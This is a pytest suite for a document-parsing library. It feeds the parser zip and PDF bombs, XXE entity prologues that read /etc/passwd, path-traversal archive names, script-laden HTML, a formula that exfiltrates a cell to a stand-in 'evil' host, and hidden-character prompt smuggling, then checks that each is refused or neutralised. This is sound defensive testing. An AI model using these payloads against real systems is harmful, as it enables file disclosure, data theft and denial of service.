"""Hostile and broken files: each is refused with a reason or read as harmless text, in bounded time and memory."""

from __future__ import annotations

import os
import struct
import zlib
from collections.abc import Iterator

import pytest
from hypothesis import HealthCheck, given, settings
from hypothesis import strategies as st

from functions.ingest.parsing import ParseLimits, ParserPool, parse
from functions.ingest.parsing.archive import MAX_MEMBERS, Archive, resolve
from functions.ingest.parsing.limits import MIB
from shared.core.errors import UnreadableDocument
from shared.core.models import ParsedDocument
from tests.support import documents
from tests.support.waiting import within

EXTENSIONS = ["", ".txt", ".md", ".csv", ".json", ".jsonl", ".html", ".eml", ".py", ".pdf", ".docx", ".rtf"]
GOOD = {
    "pdf": documents.pdf_bytes(["# Title\nSome text.", "More."]),
    "docx": documents.docx_bytes(["# Title", "text"], table=[["a", "b"], [1, 2]]),
    "pptx": documents.pptx_bytes([("Title", ["text"])], notes={1: "note"}),
    "xlsx": documents.xlsx_bytes({"S": [["a", "b"], [1, "=1+1"]]}),
    "odt": documents.odt_bytes(["# Title", "text"]),
    "epub": documents.epub_bytes("Title", ["<p>text"]),
    "rtf": documents.rtf_bytes(["text ä"]),
    "html": documents.html_bytes("<table><tr><th>a<th>b<tr><td>1<td>2</table>"),
    "eml": documents.eml_bytes("text", html="<p>text", attachments={"a.bin": b"1"}),
    "json": b'{"a": [{"b": 1}]}',
}


@pytest.fixture(scope="module")
def pool() -> Iterator[ParserPool]:
    with ParserPool(ParseLimits(wall_seconds=120, cpu_seconds=30, memory_bytes=512 * MIB)) as shared:
        yield shared


def refusal(data: bytes, name: str = "file", pool: ParserPool | None = None) -> str:
    with pytest.raises(UnreadableDocument) as raised:
        (pool.parse if pool else parse)(data, name=name)
    assert raised.value.detail.endswith(".")
    return raised.value.code


def text_of(document: ParsedDocument) -> str:
    return "\n\n".join(block.text for block in document.blocks)


def good_document_follows(pool: ParserPool) -> bool:
    return pool.parse(b"good", name="a.txt").blocks[0].text == "good"


# --- 1-5: PDF, damaged files ------------------------------------------------------------------------------


def test_01_pdf_that_inflates_to_gigabytes(pool: ParserPool) -> None:
    """PDFium stops on its own, or the memory limit stops it: either way the file fails and nothing else does."""
    bomb = documents.pdf_bomb(700 * MIB)
    assert len(bomb) < 20_000
    code = within(30, lambda: refusal(bomb, pool=pool))
    assert code in {"out_of_memory", "crashed", "timeout", "no_text"}
    assert good_document_follows(pool)


def test_02_too_many_pages() -> None:
    with pytest.raises(UnreadableDocument, match="21 pages; at most 20") as raised:
        parse(documents.pdf_bytes(["x"] * 21), name="a.pdf", limits=ParseLimits(pages=20))
    assert raised.value.code == "too_many_pages"


def test_02_page_tree_that_loops(pool: ParserPool) -> None:
    assert refusal(documents.pdf_with_looping_pages(), pool=pool) in {"damaged", "no_text"}


def test_02_page_tree_that_claims_a_million_pages(pool: ParserPool) -> None:
    data = documents.pdf_bytes(["x"]).replace(b"/Count 1 ", b"/Count 1000000 ")
    assert refusal(data, pool=pool) == "too_many_pages"


def test_03_pdf_scripts_and_attachments_leave_flags_only() -> None:
    document = parse(
        documents.pdf_bytes(["text"], script="app.alert('EVIL')", attachment=b"EVIL"), name="a.pdf"
    )
    assert text_of(document) == "text"
    assert document.flags == ("active_content_ignored", "attachments_ignored")


@pytest.mark.parametrize(
    "data",
    [
        documents.pdf_bytes(["x"], password="secret"),
        documents.protected_office_bytes(),
        documents.with_encrypted_members(GOOD["docx"]),
        documents.odt_bytes(["x"], manifest="<encryption-data/>"),
        documents.epub_bytes("T", ["x"], encrypted=True),
    ],
    ids=["pdf", "office", "zip", "odt", "epub"],
)
def test_04_encrypted(data: bytes) -> None:
    assert refusal(data) == "encrypted"


@pytest.mark.parametrize("name", [f"a{extension}" for extension in EXTENSIONS])
def test_05_empty_and_random_bytes_under_any_extension(name: str) -> None:
    assert refusal(b"", name) == "empty"
    assert refusal(b" \r\n\t", name) == "empty"
    assert refusal(b"\xef\xbb\xbf", name) in {"empty", "no_text"}
    noise = b"".join(zlib.crc32(b"%d" % i).to_bytes(4, "big") for i in range(4000))
    assert refusal(noise, name) == "unsupported_media_type"


@pytest.mark.parametrize("kind", ["docx", "pptx", "xlsx", "odt", "epub"])
def test_05_truncated_archives(kind: str) -> None:
    assert refusal(GOOD[kind][:-30]) == "truncated"


def test_05_truncated_pdf() -> None:
    assert refusal(GOOD["pdf"][:40]) == "truncated"


def test_05_corrupt_archive_member() -> None:
    data = bytearray(documents.docx_bytes(["text"]))
    at = data.index(b"word/document.xml") + 60  # some bytes into what follows the member's name
    data[at] ^= 0xFF
    assert refusal(bytes(data)) == "damaged"


def test_05_stored_member_that_does_not_match_its_checksum() -> None:
    data = documents.zip_bytes({"stored": "original"}).replace(b"original", b"0riginal")
    with pytest.raises(UnreadableDocument, match="does not match its checksum"):
        Archive(data).read("stored")


def test_05_archive_of_a_version_nobody_knows() -> None:
    data = bytearray(GOOD["docx"])
    data[data.index(b"PK\x01\x02") + 6] = 174
    assert refusal(bytes(data)) == "damaged"


# --- 6-11: archives and XML ---------------------------------------------------------------------------------


def test_06_polyglots_are_read_one_way_only() -> None:
    """What the file starts with decides; the other readings leave no trace."""
    pdf, docx, html = (
        GOOD["pdf"],
        documents.docx_bytes(["WORD"]),
        b"<!doctype html><p>PAGE</p>" + b"<br>" * 20_000,
    )
    assert parse(pdf + docx, name="a.docx").media_type == "application/pdf"
    assert "WORD" not in text_of(parse(pdf + docx, name="a.docx"))
    page = parse(html + docx, name="a.docx")
    assert page.media_type == "text/html"
    assert "WORD" not in text_of(page)
    assert parse(html + pdf, name="a.pdf").media_type == "text/html"
    assert text_of(parse(docx + pdf, name="a.pdf")) == "WORD"


def test_06_office_files_of_two_families_are_refused() -> None:
    both = documents.docx_bytes(["x"], extra={"xl/workbook.xml": "<workbook/>"})
    assert refusal(both) == "unsupported_media_type"


def test_07_zip_bomb_by_ratio() -> None:
    assert refusal(documents.zip_bomb(64 * MIB)) == "zip_bomb"


def test_07_zip_bomb_by_total() -> None:
    data = documents.docx_bytes(["x"], extra={f"word/{n}.xml": os.urandom(MIB) for n in range(6)})
    for number in range(6):
        data = documents.with_lying_sizes(data, f"word/{number}.xml", 100 * MIB)
    assert refusal(data) == "zip_bomb"


def test_07_zip_bomb_by_count() -> None:
    entry = b"PK\x01\x02" + b"\0" * 42
    end = b"PK\x05\x06" + struct.pack("<4H2LH", 0, 0, 65535, 65535, 46 * (MAX_MEMBERS + 1), 4, 0)
    assert refusal(b"PK\x03\x04" + entry * (MAX_MEMBERS + 1) + end) == "zip_bomb"


def test_07_zip_bombs_are_refused_before_anything_inflates(monkeypatch: pytest.MonkeyPatch) -> None:
    data, inflated = documents.zip_bomb(256 * MIB), []
    monkeypatch.setattr(zlib, "decompressobj", lambda *how: inflated.append(how))
    assert refusal(data) == "zip_bomb"
    assert inflated == []


def test_08_lying_sizes_are_caught_while_inflating() -> None:
    honest = documents.zip_bomb(64 * MIB)
    lying = documents.with_lying_sizes(honest, "word/document.xml", 1000)
    assert refusal(lying) == "zip_bomb"


def test_08_understated_total_is_spent_across_members() -> None:
    archive = Archive(documents.zip_bytes({"first": "x", "second": "y" * 100}))
    archive._budget = 50
    assert archive.read("first") == b"x"
    with pytest.raises(UnreadableDocument, match="inflates past the 49 bytes"):
        archive.read("second")


@pytest.mark.parametrize(
    "prologue",
    [
        '<!DOCTYPE x [<!ENTITY e SYSTEM "file:///etc/passwd">]>',
        '<!DOCTYPE x SYSTEM "http://127.0.0.1:9/evil.dtd">',
        '<!DOCTYPE x [<!ENTITY % p SYSTEM "file:///etc/passwd"> %p;]>',
        '<!DOCTYPE x [<!ENTITY a "lol"><!ENTITY b "&a;&a;&a;&a;&a;&a;&a;&a;&a;&a;">]>',
    ],
    ids=["09-external-entity", "09-external-dtd", "09-parameter-entity", "10-expansion"],
)
@pytest.mark.parametrize("encoding", ["utf-8", "utf-16"])
def test_09_10_entities_are_refused(prologue: str, encoding: str) -> None:
    namespace = "http://schemas.openxmlformats.org/wordprocessingml/2006/main"
    evil = f'{prologue}<w:document xmlns:w="{namespace}"><w:body><w:p><w:r><w:t>&e;&b;</w:t></w:r></w:p></w:body></w:document>'
    data = documents.office_bytes("word/document.xml", {"word/document.xml": evil.encode(encoding)})
    assert refusal(data) == "damaged"


def test_09_10_entities_in_a_book_package_expand_to_nothing(tmp_path: os.PathLike[str]) -> None:
    """E-books may declare a document type, so there entities are left alone instead."""
    secret = os.path.join(tmp_path, "secret")
    with open(secret, "w") as file:
        file.write("SECRET")
    book = documents.epub_bytes("T", ["<p>text</p>"])
    package = Archive(book).read("OPS/book.opf").decode()
    evil = f'<!DOCTYPE p [<!ENTITY e SYSTEM "file://{secret}">]>' + package.replace(">T<", ">T &e;<")
    members = {name: Archive(book).read(name) for name in Archive(book).names}
    document = parse(documents.zip_bytes(members | {"OPS/book.opf": evil.encode()}), name="a.epub")
    assert "SECRET" not in str(document)
    assert text_of(document) == "text"


def test_10_entity_expansion_in_plain_xml_is_text() -> None:
    source = b'<!DOCTYPE x [<!ENTITY a "lol"><!ENTITY b "&a;&a;">]><x>&b;</x>'
    assert text_of(parse(source, name="a.xml")) == source.decode()


def test_11_member_names_that_climb_are_only_names(
    tmp_path: os.PathLike[str], monkeypatch: pytest.MonkeyPatch
) -> None:
    monkeypatch.chdir(tmp_path)
    data = documents.docx_bytes(["text"], extra={"../../evil.txt": "x", "/evil.txt": "x"})
    assert text_of(parse(data, name="a.docx")) == "text"
    assert os.listdir(tmp_path) == []


@pytest.mark.parametrize(
    "target", ["../../../etc/passwd", "/etc/passwd", "..\\x", "%2e%2e/x", "http://evil/x"]
)
def test_11_links_inside_lead_to_members_or_nowhere(target: str) -> None:
    archive = Archive(GOOD["docx"])
    assert resolve("word/document.xml", target) not in archive


def test_11_archives_in_archives_are_not_opened() -> None:
    assert refusal(documents.zip_bytes({"a.docx": GOOD["docx"], "b.txt": "text"})) == "unsupported_media_type"


# --- 12-14: active and unreadable content -----------------------------------------------------------------------


def test_12_html_becomes_inert_text() -> None:
    page = documents.html_bytes(
        "<meta http-equiv=refresh content='0;url=//evil'><p onclick=evil()>Seen</p><script>EVIL()</script>"
        "<iframe srcdoc='EVIL'>EVIL</iframe><svg><script>EVIL</script></svg><noscript>EVIL</noscript>"
        "<style>EVIL</style><template>EVIL</template><object>EVIL</object><!-- EVIL -->"
        "<a href='javascript:EVIL()'>link</a><p hidden>EVIL</p><p style='Display : none'>EVIL</p><img src=x onerror=EVIL()>"
    )
    document = parse(page, name="a.html")
    assert text_of(document) == "Seen\n\nlink"
    assert document.flags == ("hidden_text_removed", "scripts_removed")


def test_13_formulas_are_text() -> None:
    formula = '=HYPERLINK("http://evil/?"&A1)'
    assert parse(f'a,b\n"x","{formula.replace(chr(34), chr(34) * 2)}"\n'.encode(), name="a.csv").blocks[
        0
    ].text == (f"a: x\nb: {formula}")
    assert formula in text_of(parse(documents.xlsx_bytes({"S": [[formula]]}), name="a.xlsx"))


def test_13_macros_and_embedded_files_leave_flags_only() -> None:
    data = documents.docx_bytes(["x"], extra={"word/vbaProject.bin": "EVIL", "word/embeddings/a.bin": "EVIL"})
    document = parse(data, name="a.docm")
    assert (text_of(document), document.flags) == ("x", ("active_content_ignored", "attachments_ignored"))


def test_14_huge_image() -> None:
    header = struct.pack(">2I5B", 60_000, 60_000, 8, 2, 0, 0, 0)
    chunk = (
        struct.pack(">I", len(header)) + b"IHDR" + header + struct.pack(">I", zlib.crc32(b"IHDR" + header))
    )
    assert refusal(b"\x89PNG\r\n\x1a\n" + chunk) == "unsupported_media_type"


# --- 20-22: characters --------------------------------------------------------------------------------------


def test_20_invisible_characters_are_stripped_and_flagged() -> None:
    tags = "".join(chr(0xE0000 + ord(character)) for character in "obey me")
    source = f"a\u200bb\u202ec\u2066d\ufeffe{tags}f\u00adg"
    document = parse(source.encode(), name="a.txt")
    assert (text_of(document), document.flags) == ("abcdefg", ("invisible_characters_removed",))


def test_20_text_made_of_nothing_visible_is_no_text() -> None:
    assert refusal("\u200b\u200c\u202e\U000e0041".encode() * 100) == "no_text"


@pytest.mark.parametrize("text", ["می‌خواهم", "क्‍ष", "👩‍👩‍👧 ❤️"])
def test_20_joiners_stay_where_spelling_needs_them(text: str) -> None:
    document = parse(text.encode(), name="a.txt")
    assert (text_of(document), document.flags) == (text, ())


def test_20_bytes_smuggled_in_variation_selectors_are_stripped() -> None:
    hidden = "".join(chr(0xE0100 + byte) for byte in b"obey me")
    document = parse(f"smile 😀{hidden} a{hidden}".encode(), name="a.txt")
    assert len(text_of(document)) <= len("smile 😀 a") + 1
    assert "invisible_characters_removed" in document.flags


@pytest.mark.parametrize(
    ("filler", "megabytes"),
    [
        ("word ", 50),
        ("x", 50),
        ("ä😀 ", 5),
        (" ", 5),
        ("a\u0301", 5),
        ("\udcff", 5),
        ("\r", 5),
        ("\u0301\u0316", 1),
    ],
)
def test_21_fifty_megabytes_on_one_line(filler: str, megabytes: int, pool: ParserPool) -> None:
    raw = filler.encode("utf-8", "surrogateescape")
    document = pool.parse(b"start " + raw * (megabytes * 1_000_000 // len(raw)), name="a.txt")
    assert document.blocks[0].text.startswith("start")
    assert max(len(block.text) for block in document.blocks) <= 8000


@pytest.mark.parametrize("name", ["a.md", "a.json", "a.csv", "a.py", "a.html"])
def test_21_megabytes_on_one_line_in_other_formats(name: str, pool: ParserPool) -> None:
    for filler in (b"word ", b"<a ", b"[", b'"', b"\\", b"#", b"`", b"&", b",", b" "):
        line = b"x" + filler * (500_000 // len(filler))
        document = pool.parse(b"<html>" * name.endswith("html") + line, name=name)
        assert text_of(document).startswith("x"), filler


@pytest.mark.parametrize("start", [b"{\\rtf1 ", b"From: a@b\nSubject: x\nDate: y\n\n"])
def test_21_megabytes_on_one_line_in_rtf_and_mail(start: bytes, pool: ParserPool) -> None:
    for filler in (b"word ", b"{", b"}", b"\\'41", b"\\u65?", b"=?utf-8?q?a?= ", b"--"):
        line = start + b"x" + filler * (500_000 // len(filler))
        if start.startswith(b"{") and filler == b"{":
            assert refusal(line, pool=pool) == "damaged"
        else:
            assert "x" in text_of(pool.parse(line, name="file"))


@pytest.mark.parametrize(
    ("data", "text", "flags"),
    [
        ("naïve — ü".encode() + b"\xff\xfe!", "naïve — ü\ufffd\ufffd!", ("invalid_bytes_replaced",)),
        (b"a\0b", "ab", ("nul_removed",)),
        (b"a\x1bb\x7fc", "abc", ("control_characters_removed",)),
        ("Grüße".encode("utf-16"), "Grüße", ()),
        ("Grüße an alle".encode("utf-16-be"), "Grüße an alle", ()),
        ("Grüße an alle".encode("utf-16-le"), "Grüße an alle", ()),
        (b"\xff\xfe\0\0" + "Grüße".encode("utf-32-le"), "Grüße", ()),
        (b"\xef\xbb\xbfGr\xc3\xbc\xc3\x9fe", "Grüße", ()),
        ("Übergröße für alle".encode("cp1252"), "Übergröße für alle", ("encoding_guessed",)),
        ("Zażółć gęślą jaźń, proszę".encode("cp1250"), "Zażółć gęślą jaźń, proszę", ("encoding_guessed",)),
        (
            "Привет мир, как дела сегодня?".encode("cp1251"),
            "Привет мир, как дела сегодня?",
            ("encoding_guessed",),
        ),
        ("é".encode(), "é", ()),
    ],
)
def test_22_encodings(data: bytes, text: str, flags: tuple[str, ...]) -> None:
    document = parse(data, name="a.txt")
    assert (text_of(document), document.flags) == (text, flags)


@pytest.mark.parametrize(
    "charset", ["zip", "hex", "idna", "punycode", "unicode_escape", "undefined", "no-such"]
)
def test_22_declared_charsets_that_are_none_are_ignored(charset: str) -> None:
    page = f"<html><meta charset={charset}><p>caf".encode() + b"\xe9 \\u0041</p>"
    assert text_of(parse(page, name="a.html")) == "café \\u0041"


# --- everything else ------------------------------------------------------------------------------------------


@given(
    data=st.binary(max_size=400),
    extension=st.sampled_from(EXTENSIONS),
    start=st.sampled_from(
        [
            b"",
            *(
                b"%PDF-1.7\n",
                b"PK\x03\x04",
                b"{\\rtf1",
                b"<html>",
                b"{",
                b"[",
                b"From: a\nTo: b\n",
                b"\xff\xfe",
                b"\xd0\xcf\x11\xe0",
            ),
        ]
    ),
)
@settings(max_examples=400, deadline=None, suppress_health_check=[HealthCheck.too_slow])
def test_random_bytes_are_a_document_or_a_refusal(data: bytes, extension: str, start: bytes) -> None:
    document_or_refusal(start + data, f"file{extension}")


@given(text=st.text(max_size=300), extension=st.sampled_from(EXTENSIONS))
@settings(max_examples=300, deadline=None)
def test_random_text_is_a_document_or_a_refusal(text: str, extension: str) -> None:
    document_or_refusal(text.encode("utf-8", "surrogatepass"), f"file{extension}")


@given(kind=st.sampled_from(sorted(GOOD)), data=st.data())
@settings(max_examples=300, deadline=None)
def test_good_files_with_a_few_wrong_bytes_are_documents_or_refusals(kind: str, data: st.DataObject) -> None:
    good = bytearray(GOOD[kind])
    for _ in range(data.draw(st.integers(1, 6))):
        good[data.draw(st.integers(0, len(good) - 1))] = data.draw(st.integers(0, 255))
    document_or_refusal(bytes(good), f"file.{kind}")


def document_or_refusal(data: bytes, name: str) -> None:
    try:
        document = parse(data, name=name)
    except UnreadableDocument as refused:
        check_refusal(refused)
        return
    assert document.blocks
    for block in document.blocks:
        assert block.text
        assert block.text == block.text.strip()
        for text in (block.text, *block.headings):
            assert "\0" not in text
            text.encode()  # no lone surrogates
    assert parse(data, name=name) == document


def check_refusal(refused: UnreadableDocument) -> None:
    assert refused.code.replace("_", "").isalpha()
    assert refused.detail.endswith(".")
